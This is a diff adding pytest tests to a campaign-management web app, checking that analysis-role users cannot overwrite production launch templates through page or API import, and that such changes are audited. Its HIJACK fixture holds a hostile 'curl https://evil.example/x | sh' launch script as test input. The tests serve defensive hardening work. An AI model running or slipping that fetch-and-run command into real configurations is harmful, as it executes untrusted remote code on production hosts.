@@ -8,7 +8,7 @@ from sqlalchemy import func, select
 
 from factories import csrf_token, login, make_experiment, make_user
 from ini_samples import BAD_FILE, EXAMPLE, POMS_FILE
-from poms_dd.models import AuditEvent, Campaign, CampaignStage, LaunchTemplate, StageDependency
+from poms_dd.models import AuditEvent, Campaign, CampaignStage, LaunchTemplate, StageDependency, User
 from poms_dd.cli.context import cli_actor
 from poms_dd.services.accounts.users import UserService
 
@@ -47,7 +47,8 @@ def test_upload_page_imports_the_example_and_download_round_trips(client, sessio
     assert response.status_code == 302
     camp = session.scalars(select(Campaign).where(Campaign.name == "hypot_reco_2026")).one()
     assert sorted(s.name for s in camp.stages) == ["ana", "reco"]
-    event = session.scalars(select(AuditEvent).where(AuditEvent.object_id == camp.id)).one()
+    event = session.scalars(select(AuditEvent).where(AuditEvent.object_type == "campaign",
+                                                     AuditEvent.object_id == camp.id)).one()
     assert event.actor == "paula"
     shown = client.get(response.headers["Location"], follow_redirects=True).get_data(as_text=True)
     assert "Imported campaign hypot_reco_2026 with 2 stage(s)" in shown
@@ -125,3 +126,89 @@ def test_json_api_import_and_export_with_a_token(client, session, paula):
                             content_type="text/plain")
     assert anonymous.status_code in (400, 401)          # no token: refused (CSRF check or sign-in required)
     assert counts(session) == before
+
+
+# --- launch templates used by production stages (Hardening item 1) ---------------------------------------
+
+HIJACK = """\
+[campaign]
+name=anacamp
+campaign_stage_list=mine
+data_handling_service=data_dispatcher
+
+[campaign_stage mine]
+data_dispatcher_dataset_query=files from hypot:raw
+vo_role=Analysis
+job_type=hypot_reco_jt
+login_setup=hypot_login
+
+[job_type hypot_reco_jt]
+launch_script=curl https://evil.example/x | sh
+
+[login_setup hypot_login]
+host=hypotgpvm01.fnal.gov
+account=hypotpro
+setup=setup fife_utils
+  export X509_USER_PROXY=/opt/hypotpro/proxy
+"""
+
+
+def template(session) -> LaunchTemplate:
+    session.expire_all()
+    return session.scalars(select(LaunchTemplate).where(LaunchTemplate.name == "hypot_reco_jt@hypot_login")).one()
+
+
+@pytest.fixture
+def production_template(client, session, paula):
+    """paula (production) imports reco2026, whose production stage reco runs template hypot_reco_jt@hypot_login."""
+    login(client, "paula")
+    assert upload(client, POMS_FILE).status_code == 302
+    client.post("/logout", data={"csrf_token": csrf_token(client, "/account")})
+    make_user(session, "ann", roles={session.get(Campaign, session.scalars(select(Campaign.id)).one()).experiment:
+                                     "analysis"})
+    return template(session)
+
+
+def test_analysis_member_cannot_rewrite_a_production_template_by_page_import(client, session, production_template):
+    command = production_template.command_template
+    login(client, "ann")
+    before = counts(session)
+    response = upload(client, HIJACK, replace=True)
+    assert response.status_code == 403
+    html = response.get_data(as_text=True)
+    assert "only production members may change it" in html and "reco2026/reco" in html
+    assert template(session).command_template == command == "fife_launch -c reco.cfg"
+    assert counts(session) == before
+
+
+def test_analysis_member_cannot_rewrite_a_production_template_by_api_import(app, session, production_template):
+    ann = session.scalars(select(User).where(User.username == "ann")).one()
+    _, token = UserService(session, cli_actor()).create_token(ann, "script", None)
+    response = app.test_client().post("/api/experiments/hypot/campaigns/import?replace=true", data=HIJACK,
+                           content_type="text/plain", headers={"Authorization": f"Bearer {token}"})
+    assert response.status_code == 403, response.json
+    assert "reco2026/reco" in response.json["message"]
+    assert template(session).command_template == "fife_launch -c reco.cfg"
+
+
+def test_import_refuses_to_change_a_template_other_campaigns_use(client, session, production_template):
+    login(client, "paula")                                              # even a production member
+    response = upload(client, HIJACK.replace("vo_role=Analysis", "vo_role=Production"), replace=True)
+    assert response.status_code == 400
+    html = response.get_data(as_text=True)
+    assert "also used by reco2026/ana, reco2026/reco" in html
+    assert "Rename the [login_setup]/[job_type] sections" in html
+    assert template(session).command_template == "fife_launch -c reco.cfg"
+    renamed = HIJACK.replace("hypot_reco_jt", "my_jt").replace("hypot_login", "my_login")
+    assert upload(client, renamed).status_code == 302                  # a template of one's own is fine
+
+
+def test_production_member_changes_the_template_of_their_campaign_audited(client, session, production_template):
+    login(client, "paula")
+    changed = POMS_FILE.replace("fife_launch -c reco.cfg", "fife_launch -c reco_v2.cfg")
+    assert upload(client, changed, replace=True).status_code == 302
+    assert template(session).command_template == "fife_launch -c reco_v2.cfg"
+    event = session.scalars(select(AuditEvent).where(AuditEvent.action == "launch_template.update")).one()
+    assert event.actor == "paula"
+    assert event.before == {"command_template": "fife_launch -c reco.cfg"}
+    assert event.after == {"command_template": "fife_launch -c reco_v2.cfg"}
